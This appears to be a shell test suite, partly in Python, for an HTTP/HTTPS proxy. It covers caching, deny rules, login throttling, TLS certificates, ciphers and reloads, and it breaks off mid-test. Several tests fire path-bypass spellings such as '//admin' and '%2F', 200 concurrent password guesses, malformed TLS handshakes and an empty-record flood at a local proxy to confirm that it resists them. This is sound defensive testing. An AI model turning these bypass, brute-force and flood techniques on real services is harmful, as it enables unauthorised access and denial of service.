test_a_denied_host_is_not_had_from_node_in_any_spelling() { denied_host node; }

same_entry() {
	served_by "$1"
	start -r ":$origin"
	plain=$port
	start -r ":$origin" -C store
	caching=$port
	spelled entry "$(most "${2-2000}")" "$plain" "$caching"
}
test_a_cache_answers_as_nginx_does_in_any_spelling() { same_entry nginx; }
test_a_cache_answers_as_apache_does_in_any_spelling() { same_entry apache; }
test_a_cache_answers_as_node_does_in_any_spelling() { same_entry node; }
test_who_spells_host_otherwise_shapes_no_entry_for_others() {
	need curl
	start -r /=200:x -R 'Cache-Control: max-age=60'
	start -r "$url" -C store
	for h in h: h. h:080; do curl -s -o out -H "Host: $h" "$url/x"; done
	for want in 'fwd=uri-miss' 'hit;'; do
		curl -s -D head -o out -H 'Host: h' "$url/x"
		has "$(cat head)" "$want"
	done
}
test_slashes_do_not_pass_by_a_rule_or_a_route() {
	start -r /=200:open -d /admin
	for p in /admin //admin /admin%2Fx /%2fadmin/x /x; do printf '%s ' "$(curl -s --path-as-is -o out -w '%{http_code}' "$url$p")"; done >got
	is "$(cat got)" '403 403 403 403 200 '
	start -r /=200:open -a /pub
	is "$(code --path-as-is "$url//pub/x")$(code --path-as-is "$url/pub%2Fx")$(code "$url/pub/x")" 403403200
	start -r /=200:open -r /admin=404 -r /npm=200:npm
	is "$(code --path-as-is "$url//admin/x")$(code --path-as-is "$url/admin%2Fx")$(code --path-as-is "$url/npm/@a%2Fb")" 403403200
}
test_a_cache_answers_as_python_does_in_any_spelling() { same_entry python 300; }
test_a_cache_answers_as_a_wsgi_application_does_in_any_spelling() { same_entry wsgi 300; }

one_for_one() {
	served_by "$1"
	start -r ":$origin"
	spelled frame "$(most 4000)" "$origin" "$port" "$seen"
}
test_nginx_sees_one_request_for_one_however_it_is_framed() { one_for_one nginx; }
test_apache_sees_one_request_for_one_however_it_is_framed() { one_for_one apache; }
test_node_sees_one_request_for_one_however_it_is_framed() { one_for_one node; }
test_haproxy_sees_one_request_for_one_however_it_is_framed() { one_for_one haproxy; }

test_a_denied_path_is_not_had_in_forward_mode_in_any_spelling() {
	served_by nginx
	start
	plain=$port
	start -d /admin
	denied=$port
	eval "start -d /admin $all_slashes"
	all=$port
	start -a to:127.0.0.1,path:/pub
	allowed=$port
	spelled forward "$(most 2000)" "$origin" "$plain" "-d /admin?=$denied" "-d /admin $all_slashes=$all" "-a to:127.0.0.1,path:/pub=$allowed"
}

test_a_denied_port_is_not_had_in_any_spelling() {
	served_by nginx
	open=$origin
	start
	plain=$port
	start -r '200:the secret'
	secret=$port
	start -d "port:$secret"
	denied=$port
	start -d "to:127.0.0.0/8,port:$secret"
	addressed=$port
	start -a "to:127.0.0.0/8,port:$open"
	allowed=$port
	spelled port "$open" "$secret" "$plain" "-d port:=$denied" "-d to:,port:=$addressed" "-a to:,port:=$allowed"
}

# ---- who guesses passwords ----

try_login() { code -x "$url" --proxy-user "$1" "http://127.0.0.1:$inner/"; }
test_who_guesses_passwords_waits_longer_each_time() {
	start -r /=200:x
	inner=$port
	start_as -l 0 -o log --log-format json -w 2 -u bob:right -u eve:hers
	is "$(try_login eve:hers)" 200
	for i in 1 2 3 4 5; do is "$(try_login "bob:wrong$i")" 407 "guess $i"; done
	is "$(try_login bob:right)" 429 'the next, though it is right'
	like "$(header Retry-After)" '^1$'
	has "$(tail -n 1 log)" '"why":"login-wait"'
	is "$(try_login eve:hers)" 200 'one that is remembered'
	now_right() { [ "$(try_login bob:right)" = 200 ]; }
	wait_for now_right || fail 'it never ends'
	is "$(try_login bob:wrong)" 407
	is "$(try_login bob:other)" 429
	like "$(header Retry-After)" '^[12]$'       # a login of his own does not begin anew
	hasnt "$(cat log)" wrong
	hasnt "$(cat log)" right
}

test_guesses_by_socks_and_all_at_once_wait_too() {
	start -r /=200:x
	inner=$port
	start -u bob:right
	for i in 1 2 3 4 5; do code --socks5-hostname "bob:wrong$i@127.0.0.1:$port" "http://127.0.0.1:$inner/" >said; done
	is "$(code -x "http://127.0.0.1:$port" --proxy-user bob:right "http://127.0.0.1:$inner/")" 429
	code --socks5-hostname "bob:right@127.0.0.1:$port" "http://127.0.0.1:$inner/" && fail 'by SOCKS it passes'
	need python3
	start -u bob:right -t head=60
	python3 - "$port" <<'END' || fail 'all at once'
import base64, socket, sys
all = []
for i in range(200):
    s = socket.create_connection(('127.0.0.1', int(sys.argv[1]))); s.settimeout(15)
    s.sendall(b'GET http://a.invalid/ HTTP/1.1\r\nHost: a.invalid\r\nProxy-Authorization: Basic %s\r\n\r\n' % base64.b64encode(b'bob:%d' % i))
    all.append(s)
codes = [s.recv(99)[9:12] for s in all]
assert codes.count(b'407') <= 30 and codes.count(b'429') >= 100, codes
END
}

# ---- TLS: what https:// listeners show, and what passes ----

need_tls() {
	need openssl
	"$PROXY" -V | grep -q BearSSL || skip 'a build without TLS'
}
certificate() {  # NAME KIND SUBJECT-ALT-NAMES: NAME.pem and NAME.key, signed by itself
	case $2 in
	rsa) set -- "$1" "$3" -newkey rsa:2048 ;;
	p256 | p384) set -- "$1" "$3" -newkey ec -pkeyopt "ec_paramgen_curve:P-${2#p}" ;;
	esac
	name=$1 alt=$2
	shift 2
	openssl req -x509 -nodes -days 30 -subj "/CN=$name" -addext "subjectAltName=$alt" "$@" -keyout "$name.key" -out "$name.pem" 2>openssl.err ||
		fail "openssl: $(cat openssl.err)"
	chmod 600 "$name.key"
}
made_at() { sed -n 's/^proxy: https: a certificate was made: \([^ ]*\) .*/\1/p' "err.$n"; }
start_tls() {  # with a certificate of its own, in $ca
	need_tls
	may_say '^proxy: https: a certificate was made: '
	start_as -q -l https://127.0.0.1:0 "$@"
	ca=$(made_at)
}
shown() { openssl s_client -connect "127.0.0.1:$port" "$@" </dev/null 2>&1; }  # what a handshake comes to
subject() { shown "$@" | sed -n 's/^subject=//p' | tr -d ' '; }

tls_client() {  # python: c() makes a connection to $1 with the certificate $2 trusted
	cat <<'END'
import socket, ssl, struct, sys, time
port, ca = int(sys.argv[1]), sys.argv[2]
def c(ctx=None, rcvbuf=0, name='localhost'):
    s = socket.socket()
    if rcvbuf: s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(15)
    s.connect(('127.0.0.1', port))
    return (ctx or ssl.create_default_context(cafile=ca)).wrap_socket(s, server_hostname=name)
def rest(s):
    got = b''
    while True:
        b = s.recv(65536)
        if not b: return got
        got += b
END
}

test_https_needs_no_certificate_for_one_is_made() {
	need python3 node
	start_tls -r /=200:hello -r app.example=200:app
	like "$url" '^https://127\.0\.0\.1:[0-9]+$'
	for host in localhost 127.0.0.1; do is "$(get --cacert "$ca" "https://$host:$port/")" hello; done
	is "$(get --cacert "$ca" --resolve "app.example:$port:127.0.0.1" "https://app.example:$port/")" app
	curl -q -s -m 9 --cacert "$ca" --resolve "other.example:$port:127.0.0.1" "https://other.example:$port/" && fail 'it is for any name'
	is "$(python3 -c 'import ssl, sys, urllib.request as u; print(u.urlopen(sys.argv[1], context=ssl.create_default_context(cafile=sys.argv[2])).read().decode())' "https://localhost:$port/" "$ca")" hello
	is "$(NODE_EXTRA_CA_CERTS=$ca node -e 'require("https").get(process.argv[1], r => r.on("data", d => process.stdout.write(d)))' "https://localhost:$port/")" hello
	has "$(cat "err.$n")" "SHA-256 $(openssl x509 -in "$ca" -noout -fingerprint -sha256 | sed 's/.*=//')"
	hasnt "$(cat "$ca")" PRIVATE
	openssl x509 -in "$ca" -noout -checkend $((89 * 86400)) >checked || fail 'it ends too soon'
	openssl x509 -in "$ca" -noout -checkend $((91 * 86400)) >checked && fail 'it lives too long'
	is "$(openssl verify -purpose sslserver -CAfile "$ca" "$ca")" "$ca: OK"
	stop
	[ ! -e "$ca" ] || fail 'its file is still there'
}

test_certificates_are_chosen_by_name_exact_before_wildcard() {
	need_tls
	certificate first p256 DNS:first.example
	certificate rsa rsa DNS:both.example
	certificate ec p256 DNS:both.example
	certificate wild p384 'DNS:*.both.example,DNS:*.example'
	start_as -q -l https://127.0.0.1:0 -c first.pem,key=first.key -c rsa.pem,key=rsa.key -c ec.pem,key=ec.key -c wild.pem,key=wild.key -r /=200:x
	is "$(subject -servername first.example)" CN=first
	is "$(subject -servername FIRST.example)" CN=first
	is "$(subject -servername both.example -cipher ECDHE-RSA-AES128-GCM-SHA256)" CN=rsa
	is "$(subject -servername both.example -cipher ECDHE-ECDSA-AES128-GCM-SHA256)" CN=ec
	is "$(subject -servername a.both.example)" CN=wild
	is "$(subject -servername a.b.both.example)" CN=first 'a wildcard stands for one label; it'
	is "$(subject -servername other.example)" CN=wild
	is "$(subject -servername elsewhere)" CN=first
	is "$(subject -noservername)" CN=first
	is "$(get --cacert wild.pem --resolve "a.both.example:$port:127.0.0.1" "https://a.both.example:$port/")" x
}

test_keys_of_every_form_are_read_and_wrong_ones_named() {
	need_tls
	certificate rsa rsa DNS:localhost
	certificate ec p256 DNS:localhost
	certificate ec3 p384 DNS:localhost
	openssl rsa -in rsa.key -traditional -out rsa1.key 2>/dev/null
	openssl ec -in ec.key -out ec1.key 2>/dev/null
	openssl ecparam -name prime256v1 -out parameters
	cat parameters ec1.key >ec2.key
	openssl pkey -in ec.key -aes128 -passout pass:x -out locked.key
	openssl rsa -in rsa.key -traditional -aes128 -passout pass:x -out locked1.key 2>/dev/null
	openssl genpkey -algorithm ed25519 -out ed.key 2>/dev/null
	openssl ecparam -name secp521r1 -genkey -noout -out p521.key
	chmod 600 ./*.key
	cat rsa.pem rsa.key >both.pem
	cat ec1.key ec.pem | tr '\n' '\r' | sed 's/\r/\r\n/g' >crlf.pem
	printf %s "$(cat ec.pem ec1.key)" >unended.pem
	chmod 600 both.pem crlf.pem unended.pem
	for c in rsa.pem,key=rsa.key rsa.pem,key=rsa1.key ec.pem,key=ec.key ec.pem,key=ec1.key ec.pem,key=ec2.key ec3.pem,key=ec3.key both.pem crlf.pem unended.pem; do
		start_as -q -l https://127.0.0.1:0 -c "$c" -r /=200:x
		is "$(get --cacert "${c%%[.123]*}$(expr "$c" : '[a-z]*\([0-9]*\)\.pem').pem" "https://localhost:$port/" 2>&1 || get -k "$url")" x "what $c comes to"
		stop
	done
	echo nonsense >nonsense.pem
	printf '%s\n' '-----BEGIN CERTIFICATE-----' '!!!!' '-----END CERTIFICATE-----' >broken.pem
	head -c 300 ec.pem >cut.pem
	: >empty.pem
	while IFS='|' read -r c message; do
		try -l https://127.0.0.1:0 -c "$c" -r 200
		is "$status" 1 "exit status with -c $c; $err; it"
		like "$err" "^proxy: -c ${c%%,*}: .*$message" "the message of -c $c"
	done <<-'END'
	rsa.pem,key=ec.key|the key does not belong
	ec.pem,key=ec3.key|the key does not belong
	ec.pem|there is no private key
	ec1.key|there is no certificate
	ec.pem,key=locked.key|encrypted
	rsa.pem,key=locked1.key|encrypted
	ec.pem,key=ed.key|neither of RSA nor
	ec.pem,key=p521.key|curve
	both.pem,key=rsa.key|more than one key
	nonsense.pem|no certificate
	broken.pem|PEM
	cut.pem,key=ec.key|(PEM|malformed)
	empty.pem|no certificate
	/dev/zero|large
	END
	try -l https://127.0.0.1:0 -c ec.pem,key=absent.key -r 200
	is "$err" "proxy: -c absent.key: No such file or directory"
	printf '%s\n' '[ca]' default_ca=d '[d]' new_certs_dir=. database=index serial=serial default_md=sha256 policy=p '[p]' commonName=supplied >ca.cnf
	: >index && echo 01 >serial
	openssl req -new -nodes -subj /CN=old -newkey ec -pkeyopt ec_paramgen_curve:P-256 -keyout old.key -out old.csr 2>/dev/null
	openssl ca -config ca.cnf -batch -notext -selfsign -keyfile old.key -in old.csr -out old.pem -startdate 20200101000000Z -enddate 20200102000000Z 2>ca.err ||
		fail "openssl ca: $(cat ca.err)"
	chmod 604 old.key
	may_say '^proxy: -c old.key: everybody may read this key' '^proxy: -c old.pem: this certificate has expired'
	start_as -q -l https://127.0.0.1:0 -c old.pem,key=old.key -r /=200:x
	is "$(grep -c . "err.$n")" 2 'warnings'
	is "$(get -k "$url")" x
}

test_usage_errors_of_tls_name_what_is_wrong() {
	need_tls
	while IFS='|' read -r args message; do
		eval "set -- $args"
		(refuses "$message" "$@") || bad=1
	done <<-'END'
	-c c.pem -r 200|-c c.pem: no listener
	-l https://:0 -c ''|value is empty
	-l https://:0 -c ,key=b|name of the file
	-l https://:0 -c a,key=|name of the file
	-l https://:0 -c a,keys=b|key=FILE
	-l https://unix:s|Unix socket
	-l https://:0,redirect|redirect
	-l 0,redirect|redirect
	-l 0,proxy,proxy|twice
	-l httpz://:0|https://
	-A https://:0 -r 200|admin
	END
	exit "${bad:-0}"
}

test_a_build_without_tls_says_so() {
	from_tree proxy.c
	need_tls
	mkdir plain && cp "$tree/proxy.c" "$tree/Makefile" plain
	make -s -C plain TLS=0 CFLAGS=-O0 || fail 'make TLS=0'
	PROXY=plain/proxy
	is "$("$PROXY" -V)" 'proxy 0.1 (without TLS)'
	refuses 'this build has no TLS' -l https://:0 -r 200
	refuses 'this build has no TLS' -l 0 -c c.pem -r 200
	refuses 'this build has no TLS' -l 0 -M mitm
	for parent in https://h https://h:443 a.example=https://h; do refuses 'this build has no TLS' -l 0 -x $parent; done
	start -r /=200:x
	is "$(get "$url")" x
}

test_only_tls_1_2_with_aead_and_forward_secrecy_is_spoken() {
	need_tls
	certificate rsa rsa DNS:localhost
	certificate ec p256 DNS:localhost
	start_as -q -l https://127.0.0.1:0 -c rsa.pem,key=rsa.key -c ec.pem,key=ec.key -r /=200:x
	accepted=
	for suite in $(openssl ciphers 'ALL:COMPLEMENTOFALL:@SECLEVEL=0' | tr : ' '); do
		case $suite in TLS_*) continue ;; esac
		shown -tls1_2 -cipher "$suite:@SECLEVEL=0" | grep -q '^New, TLSv1.2, Cipher is' && accepted="$accepted$suite "
	done
	is "$(echo $accepted | tr ' ' '\n' | sort | tr '\n' ' ')" 'ECDHE-ECDSA-AES128-GCM-SHA256 ECDHE-ECDSA-AES256-GCM-SHA384 ECDHE-ECDSA-CHACHA20-POLY1305 ECDHE-RSA-AES128-GCM-SHA256 ECDHE-RSA-AES256-GCM-SHA384 ECDHE-RSA-CHACHA20-POLY1305 '
	for version in tls1 tls1_1 tls1_3; do
		has "$(shown "-$version" -cipher ALL:@SECLEVEL=0)" 'Cipher is (NONE)' "what $version comes to"
	done
	said=$(shown)
	has "$said" 'Server Temp Key: X25519'
	has "$said" 'Compression: NONE'
	has "$said" 'Secure Renegotiation IS supported'
	has "$(shown -alpn h2,http/1.1)" 'ALPN protocol: http/1.1'
	has "$(shown -alpn h2)" 'Cipher is (NONE)'
	(printf 'GET / HTTP/1.1\r\nHost: h\r\n\r\n'; "$peer" nap 200; echo R; "$peer" nap 300) | openssl s_client -connect "127.0.0.1:$port" >renewed 2>&1
	has "$(cat renewed)" 'no renegotiation' 'what a renegotiation comes to'
}

test_sessions_are_resumed_by_all_workers_where_they_were_made() {
	need_tls
	[ -z "${SMALL_BLOCKS-}" ] || skip 'here a first message comes in pieces, in which no session is looked for'
	certificate one p256 'DNS:one.example,DNS:two.example'
	start_as -q -w 2 -l https://127.0.0.1:0 -l https://127.0.0.1:0 -A 0 -c one.pem,key=one.key -r /=200:x
	admin=$(sed -n 3p "out.$n") other=$(sed -n '2s/.*://p' "out.$n")
	shown -tls1_2 -servername one.example -sess_out session >new
	has "$(cat new)" 'New, TLSv1.2'
	for i in 1 2 3 4 5 6; do has "$(shown -tls1_2 -servername one.example -sess_in session)" 'Reused, TLSv1.2'; done
	has "$(shown -tls1_2 -servername two.example -sess_in session)" 'New, TLSv1.2' 'for another name'
	port=$other
	has "$(shown -tls1_2 -servername one.example -sess_in session)" 'New, TLSv1.2' 'at another listener'
	resumed() { [ "$(metric 'proxy_tls_handshakes_total{result="resumed"}')" = 6 ]; }
	wait_for resumed || fail "$(get "$admin/metrics" | grep tls_)"
	is "$(metric 'proxy_tls_handshakes_total{result="full"}')" 3
	has "$(get "$admin/metrics" | grep build_info)" 'tls="bearssl"'
}

test_plain_http_on_a_tls_port_gets_a_readable_400() {
	need_tls
	may_say '^proxy: https: a certificate was made: '
	start_as -l https://127.0.0.1:0 -o log --log-format '%>s %{why}x' -r /=200:x
	ca=$(made_at)
	is "$(code "http://127.0.0.1:$port/")" 400
	has "$(cat body)" 'this port speaks HTTPS'
	is "$(cat log)" '400 plain-on-tls'
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\n\r\nGET / HTTP/1.1\r\nHost: h\r\n\r\n' rest >said
	is "$(grep -c '^HTTP/1.1 400' said)" 1 'answers on one connection'
	talk "$port" 'send:\x80\x2e\x01\x03\x01' rest >said
	hasnt "$(cat said)" 200
	is "$(get --cacert "$ca" "https://localhost:$port/")" x
	start_as -l https://127.0.0.1:0,proxy -o more --log-format '%>s %{why}x' -r /=200:x
	talk "$port" 'send:PROXY TCP4 1.2.3.4 1.2.3.4 1 2\r\nGET / HTTP/1.1\r\nHost: h\r\n\r\n' rest >said
	has "$(cat said)" 'this port speaks HTTPS'
	is "$(cat more)" '400 plain-on-tls'
}

test_handshakes_that_are_cut_slow_or_nonsense_harm_nobody() {
	need python3 need_proc
	start_tls -A 0 -t head=1s -r /=200:x
	admin=$(sed -n 2p "out.$n")
	tls_client >client.py
	cat >>client.py <<'END'
ctx = ssl.create_default_context(cafile=ca)
ctx.maximum_version = ssl.TLSVersion.TLSv1_2
inn, out = ssl.MemoryBIO(), ssl.MemoryBIO()
o = ctx.wrap_bio(inn, out, server_hostname='localhost')
try: o.do_handshake()
except ssl.SSLWantReadError: pass
hello = out.read()
def raw(b, wait=False):
    s = socket.create_connection(('127.0.0.1', port)); s.settimeout(15)
    if b: s.sendall(b)
    if wait:
        t = time.time()
        try:
            while s.recv(4096): pass
        except OSError: pass
        return time.time() - t
    s.close()
for n in range(len(hello) + 1): raw(hello[:n])
for n in range(0, len(hello), 7):
    b = bytearray(hello); b[n] ^= 0x55; raw(bytes(b))
import threading                                     # a flood of records with nothing in them stops nobody else
def flood():
    f = socket.create_connection(('127.0.0.1', port)); end = time.time() + 1.5
    try:
        while time.time() < end: f.sendall(b'\x16\x03\x01\x00\x00' * 4000)
    except OSError: pass
    f.close()
flooding = threading.Thread(target=flood); flooding.start()
time.sleep(0.2); began = time.time()
s = c(); s.send(b'GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n'); assert rest(s).endswith(b'x')
assert time.time() - began < 1.1, time.time() - began
flooding.join()
raw(b'\x16\x03\x01\x3f\xff' + b'\0' * 16383); raw(b'\x16\x03\x01\xff\xff' + b'x' * 70000); raw(b'\x16' * 100000)
took = raw(hello[:20], True)
assert 0.5 < took < 5, took
s = socket.create_connection(('127.0.0.1', port))     # an octet at a time
for i in range(len(hello)): s.send(hello[i:i+1])
s.settimeout(15)
assert s.recv(1) == b'\x16'
s.close()
s = c(); s.send(b'GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n'); assert rest(s).endswith(b'x')
s = c(); s.send(b'GET / HT'); f = socket.socket(fileno=s.detach()); f.sendall(b'\x17\x03\x03\x00\x20' + b'y' * 32)      # a record that is none
f.settimeout(15); assert f.recv(1) in (b'', b'\x15')
END
	python3 client.py "$port" "$ca" || fail 'the client'
	is "$(get --cacert "$ca" "https://localhost:$port/")" x
	all_gone() { [ "$(metric 'proxy_connections{side="client"}')" = 0 ]; }
	wait_for all_gone || fail "$(get "$admin/metrics" | grep proxy_connections)"
	[ "$(metric 'proxy_tls_handshakes_total{result="failed"}')" -ge 100 ] || fail 'they are not counted'
}

test_what_passes_through_tls_is_what_was_sent() {
	need python3
	head -c 10000000 /dev/urandom >big
	head -c 2000000 big >some
	start -r /=echo -r /big=file:big -r /some=file:some -r /x=200:x
	inner=$port
	start_tls -w 2 -r ":$inner"
	get --cacert "$ca" "https://localhost:$port/big" | cmp - big || fail 'a large answer'
	get --cacert "$ca" --limit-rate 40M "https://localhost:$port/big" "https://localhost:$port/big" >two
	cat big big | cmp - two || fail 'two answers on one connection'
	tls_client >client.py
	cat >>client.py <<'END'
import hashlib
s = c(rcvbuf=4096)                                   # a slow reader: records wait for the socket
s.send(b'GET /some HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n')
time.sleep(0.3)
body = rest(s).split(b'\r\n\r\n', 1)[1]
assert body == open('some', 'rb').read()
s = c()                                              # many requests in one record: poll sees them once
s.send(b'GET /x HTTP/1.1\r\nHost: h\r\n\r\n' * 300 + b'GET /x HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n')
assert rest(s).count(b'HTTP/1.1 200') == 301
s = c()                                              # records of one octet
for o in b'POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello': s.send(bytes([o]))
assert b'"hello"' in rest(s)
s = c()                                              # it is told that nothing more comes
s.send(b'GET /x HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n')
s.suppress_ragged_eofs = False
assert rest(s).endswith(b'x')
s = c()                                              # an end that comes together with what is before it
s.send(b'GET /x HTTP/1.1\r\nHost: h\r\n\r\n'); f = socket.socket(fileno=s.detach())
ctx = ssl.create_default_context(cafile=ca); inn, out = ssl.MemoryBIO(), ssl.MemoryBIO()
o = ctx.wrap_bio(inn, out, server_hostname='localhost'); f = socket.create_connection(('127.0.0.1', port)); f.settimeout(15)
def step(g):
    while True:
        try: r = g()
        except ssl.SSLWantReadError: r = None
        b = out.read()
        if b: f.sendall(b)
        if r is not None: return r
        inn.write(f.recv(65536))
step(lambda: o.do_handshake() or 1)
o.write(b'GET /x HTTP/1.1\r\nHost: h\r\n\r\n')
try: o.unwrap()
except ssl.SSLError: pass
f.sendall(out.read())
began = time.time()
while f.recv(65536): pass
assert time.time() - began < 8
s = c()
data = open('big', 'rb').read()[:3000000]
s.send(b'POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n')
for at in range(0, len(data), 50000):
    s.sendall(b'%x\r\n' % len(data[at:at+50000]) + data[at:at+50000] + b'\r\n')
s.sendall(b'0\r\n\r\n')
assert b' 200 ' in rest(s)[:20]
END
	python3 client.py "$port" "$ca" || fail 'the client'
	origin head save:10000000:came 'send:HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok'
	start_tls -r ":$origin"
	is "$(get --cacert "$ca" -H Expect: --data-binary @big "https://localhost:$port/")" ok
	cmp came big || fail 'a large request'
}

test_servers_behind_are_told_of_https() {
	need_tls
	start -r /=echo
	inner=$port
	start_tls -r ":$inner"
	code --cacert "$ca" "https://localhost:$port/" >status
	is "$(field X-Forwarded-Proto)" https
	has "$(field Forwarded)" 'proto=https'
	origin head 'send:HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:'"$inner"'/there\r\nContent-Length: 0\r\n\r\n'
	start_tls -r "http://127.0.0.1:$origin,host=127.0.0.1:$inner"
	is "$(code --cacert "$ca" "https://localhost:$port/")" 302
	is "$(header Location)" "https://localhost:$port/there"
}

test_redirect_leads_to_https() {
	need_tls
	may_say '^proxy: https: a certificate was made: '
	start_as -q -l 0,redirect -l https://127.0.0.1:0 -r /=200:x -d /denied
	secure=$(sed -n 2p "out.$n")
	is "$(code -H 'Host: app.example:80' "$url/a/b?c=%20d")" 308
	is "$(header Location)" "https://app.example:${secure##*:}/a/b?c=%20d"
	is "$(code -d x "$url/")" 308
	is "$(code "$url/denied")" 403
	is "$(get "$url/.well-known/acme-challenge/token")" x
	is "$(get -k -L "$url/")" x
	is "$(code -k "$secure")" 200
}

test_a_proxy_is_reached_by_https() {
	need node
	start -r /=200:inner
	inner=$port
	start_tls -f -A 0
	is "$(get --proxy-cacert "$ca" -x "https://localhost:$port" "http://127.0.0.1:$inner/")" inner
	is "$(get --proxy-cacert "$ca" -p -x "https://localhost:$port" "http://127.0.0.1:$inner/")" inner
	is "$(get "$(sed -n 2p "out.$n")/proxy.pac" | grep -o '"[^"]*"')" "\"HTTPS 127.0.0.1:$port\""
	may_say '^proxy: https: a certificate was made: '
	"$peer" bound 9 "$PROXY" -q -l https://127.0.0.1:0 -- sh -c 'echo $PROXY_URL $http_proxy' >told 2>/dev/null
	like "$(cat told)" '^(https://127.0.0.1:[0-9]+) https://127.0.0.1:[0-9]+$'
	head -c 5000000 /dev/urandom >big
	start -r /=file:big
	inner=$port
	start_tls -f
	get --proxy-cacert "$ca" -p -x "https://localhost:$port" "http://127.0.0.1:$inner/" | cmp - big || fail 'a tunnel'
}

test_a_proxy_header_comes_before_the_handshake() {
	need python3
	start_tls -l https://127.0.0.1:0,proxy -r /=echo
	ca=$(made_at)
	second=$(sed -n 2p "out.$n")
	is "$(code --cacert "$ca" --haproxy-protocol "https://localhost:${second##*:}/")" 200
	tls_client >client.py
	cat >>client.py <<'END'
for split in (0, 1):
    s = socket.create_connection(('127.0.0.1', port)); s.settimeout(15)
    ctx = ssl.create_default_context(cafile=ca); inn, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    o = ctx.wrap_bio(inn, out, server_hostname='localhost')
    def step(f):
        while True:
            try: r = f()
            except ssl.SSLWantReadError: r = None
            b = out.read()
            if b: s.sendall(head.pop() + b if head else b)
            if r is not None: return r
            inn.write(s.recv(65536))
    head = [b'PROXY TCP4 203.0.113.9 127.0.0.1 1 2\r\n']
    if split: s.sendall(head.pop()); time.sleep(0.1)
    step(lambda: o.do_handshake() or 1)
    o.write(b'GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n'); s.sendall(out.read())
    assert b'203.0.113.9' in step(lambda: o.read(65536)) or b'203.0.113.9' in step(lambda: o.read(65536))
all = []
for i in range(30):                                  # many at once, each with its first message in the same segment
    s = socket.create_connection(('127.0.0.1', port)); s.settimeout(5)
    inn, out = ssl.MemoryBIO(), ssl.MemoryBIO(); o = ctx.wrap_bio(inn, out, server_hostname='localhost')
    try: o.do_handshake()
    except ssl.SSLWantReadError: pass
    all.append((s, b'PROXY TCP4 203.0.113.9 127.0.0.1 1 2\r\n' + out.read()))
for s, b in all: s.sendall(b)
for s, b in all: assert s.recv(1) == b'\x16'
END
	python3 client.py "${second##*:}" "$ca" || fail 'the client'
}

test_clients_show_certificates_where_they_have_to() {
	need jq
	need_tls
	authority
	certificate site p256 DNS:localhost
	chain good DNS:x
	cp root.pem cas.pem
	openssl req -new -nodes -subj '/C=DE/O=A, B\+C/CN=al "ice"/emailAddress=a@b.example' -newkey rsa:2048 -keyout odd.key -out odd.csr 2>/dev/null
	printf '%s\n' '[p]' >>ca.cnf
	openssl x509 -req -in odd.csr -CA below.pem -CAkey below.key -set_serial 77 -days 9 -out odd.leaf 2>/dev/null || fail 'openssl x509'
	cat odd.leaf below.pem >odd.pem
	certificate alone p256 DNS:x
	chain old DNS:x -startdate 20200101000000Z -enddate 20200102000000Z
	start -r /=echo
	inner=$port
	start_as -l "https://127.0.0.1:0,client-ca=cas.pem" -l https://127.0.0.1:0 -c site.pem,key=site.key -r ":$inner" -A 0 \
		-o log --log-format '%{SSL_CLIENT_S_DN}x'
	free=$(sed -n 2p "out.$n")
	is "$(code --cacert site.pem --cert good.pem --key good.key -H 'X-SSL-Client-S-DN: CN=root' "https://localhost:$port/")" 200
	is "$(field X-SSL-Client-S-DN)" CN=good
	is "$(code --cacert site.pem --cert odd.pem --key odd.key "https://localhost:$port/")" 200
	is "$(field X-SSL-Client-S-DN)" 'emailAddress=a@b.example,CN=al \"ice\",O=A\, B\+C,C=DE'
	is "$(head -n 1 log)" CN=good
	for who in alone old; do
		is "$(code --cacert site.pem --cert $who.pem --key $who.key "https://localhost:$port/")" 000 "what $who gets"
	done
	is "$(code --cacert site.pem --cert good.pem --key alone.key "https://localhost:$port/")" 000 'with the key of another'
	is "$(code --cacert site.pem "https://localhost:$port/")" 000 'without a certificate'
	is "$(code -k -H 'X-SSL-Client-S-DN: CN=root' "$free/")" 200
	is "$(field X-SSL-Client-S-DN)" '' 'what a client says of itself'
	shown -tls1_2 -cert good.pem -key good.key -sess_out session >new
	has "$(cat new)" 'New, TLSv1.2'
	[ ! -s session ] || fail 'there is a session to be resumed'
	try -l https://127.0.0.1:0,client-ca=absent -r 200
	is "$status" 1
	has "$err" 'absent: No such file'
	refuses 'client-ca is for an https' -l 0,client-ca=cas.pem -r 200
	refuses 'client-ca=' -l https://127.0.0.1:0,client-ca= -r 200
}

test_hup_reads_certificates_again_and_keeps_those_that_work() {
	need_tls
	certificate old p256 DNS:localhost
	certificate new p256 DNS:localhost
	cp old.pem c.pem && cp old.key c.key
	start_as -q -w 2 -l https://127.0.0.1:0 -c c.pem,key=c.key -r /=200:x
	is "$(subject)" CN=old
	cp new.pem c.pem
	may_say '^proxy: -c c.pem: .*; the certificates in force are kept$'
	kill -HUP "$pid"
	wait_for grep -q 'the key does not belong.*kept$' "err.$n" || fail 'a wrong key is not told'
	is "$(subject)" CN=old
	rm c.pem
	kill -HUP "$pid"
	wait_for grep -q 'No such file.*kept$' "err.$n" || fail 'that it is not there is not told'
	cp new.pem c.pem && cp new.key c.key
	kill -HUP "$pid"
	is_new() { for i in 1 2 3 4; do [ "$(subject)" = CN=new ] || return 1; done; }
	wait_for is_new || fail 'the new one is not shown'
	may_say '^proxy: USR2: started anew'
	upgrade 1
	is "$(subject)" CN=new
}

test_a_bad_certificate_keeps_no_rule_out() {
	need_tls
	certificate site p256 DNS:localhost
	echo "alice:$(openssl passwd -6 one)" >users
	start_as -q -l https://127.0.0.1:0 -c site.pem,key=site.key -u @users -r /=200:x
	is "$(code -k -u alice:one "$url")" 200
	may_say '^proxy: -c site.key: .*; the certificates in force are kept$' '^proxy: .*; the rules and logins in force are kept$'
	echo "bob:$(openssl passwd -6 two)" >users
	mv site.key away
	kill -HUP "$pid"
	bob() { [ "$(code -k -u bob:two "$url")" = 200 ]; }
